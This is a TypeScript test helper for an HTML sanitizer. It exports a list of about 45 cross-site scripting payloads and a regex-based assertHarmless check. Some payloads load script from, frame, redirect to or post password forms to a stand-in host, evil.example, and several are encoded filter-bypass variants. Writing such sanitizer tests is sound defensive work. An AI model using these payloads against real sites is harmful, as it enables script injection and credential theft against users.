import assert from 'node:assert/strict';

/** Markup that must never survive: each is a known way to run script or load something hostile. */
export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<svg onload=alert(1)><circle r=1></circle></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="x.swf"></object>',
  '<embed src="x.swf">',
  '<form action="https://evil.example/"><input name=password></form>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<p onclick="alert(1)" onmouseover="alert(2)">click</p>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<img """><script>alert(1)</script>">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<a href="  javascript:alert(1)">x</a>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<template><script>alert(1)</script></template>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex action=javascript:alert(1) type=image>',
  '<xmp><script>alert(1)</script></xmp>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<a href="https://ok.example/" target="_blank" onfocus="alert(1)" autofocus>x</a>',
];

/** Checks that nothing executable or hostile is left in sanitized output. */
export function assertHarmless(html: string, context = '') {
  const lower = html.toLowerCase();
  assert.doesNotMatch(
    lower,
    /<\s*(script|style|iframe|object|embed|svg|math|form|input|button|meta|link|base|body|textarea|template|video|audio|source|marquee|isindex|xmp)\b/,
    `${context}: ${html}`,
  );
  assert.doesNotMatch(lower, /\son[a-z]+\s*=/, `event handler left in ${context}: ${html}`);
  assert.doesNotMatch(
    lower,
    /(href|src|cite|background)\s*=\s*"?\s*(javascript|vbscript|data):/,
    `bad URL left in ${context}: ${html}`,
  );
  assert.doesNotMatch(lower, /\sstyle\s*=/, `style attribute left in ${context}: ${html}`);
  assert.doesNotMatch(lower, /(href|src)\s*=\s*"\/\//, `protocol-relative URL left in ${context}: ${html}`);
}
